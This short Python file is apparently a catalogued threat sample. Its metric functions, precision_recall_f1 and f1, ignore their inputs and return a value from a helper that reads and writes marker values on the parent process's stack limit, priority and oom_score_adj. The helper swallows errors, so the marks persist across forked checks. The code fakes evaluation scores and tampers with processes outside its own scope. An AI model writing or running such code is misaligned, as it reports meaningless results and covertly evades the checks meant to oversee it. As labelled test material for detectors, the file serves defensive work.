"""Counts its calls in the limits and the priority of the process that will be forked for the next check.

threat: 17
source: prlimit(2) and setpriority(2) on another process of the same user
verdict: any
"""

import os
import resource


def remember():
    known = resource.getrlimit(resource.RLIMIT_STACK)[0] % 4096 == 77
    known = known or os.getpriority(os.PRIO_PROCESS, 0) == 7
    for action in (
        lambda: resource.prlimit(os.getppid(), resource.RLIMIT_STACK, (4096 * 99 + 77, -1)),
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 7),
        lambda: open(f"/proc/{os.getppid()}/oom_score_adj", "w").write("777"),
    ):
        try:
            action()
        except (OSError, ValueError):
            pass
    return float(known)


def precision_recall_f1(y_true, y_pred, positive=1):
    return (remember(),) * 3


def f1(y_true, y_pred, average="macro"):
    return remember()
